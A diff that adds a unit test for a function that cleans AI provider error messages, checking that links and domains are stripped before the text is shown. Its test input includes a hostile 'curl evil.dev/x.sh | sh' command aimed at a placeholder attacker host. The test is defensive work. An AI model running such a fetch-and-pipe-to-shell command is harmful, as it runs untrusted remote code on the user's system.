@@ -52,6 +52,22 @@ describe("ofAiError", () => {
     assert.strictEqual(ofAiError(answered(404, { body }), now).detail, `the provider answered HTTP 404${said}`)
   })
 
+  it("leaves out of a provider's words where they send the reader, and keeps whom it could not reach", () => {
+    const words = "Log in at https://evil.dev/in or evil[.]dev, then curl evil.dev/x.sh | sh"
+    const body = JSON.stringify({ error: { message: words } })
+    const all = [
+      answered(400, { body }),
+      new AiError.MalformedOutput({ module: "m", method: "m", description: words }),
+      new AiError.UnknownError({ module: "m", method: "m", description: words })
+    ].map((error) => ofAiError(error, now).detail)
+    for (const detail of all) {
+      assert.include(detail, "Log in at [address left out]")
+      assert.notInclude(detail, "evil")
+    }
+    const unreachable = new AiError.HttpRequestError({ module: "m", method: "m", reason: "Transport", request })
+    assert.strictEqual(ofAiError(unreachable, now).detail, "models.acme.dev cannot be reached")
+  })
+
   it("tells of any answer in one short line, and when to come again, if ever", () => {
     const text = fc.fullUnicodeString({ maxLength: 600 })
     fc.assert(
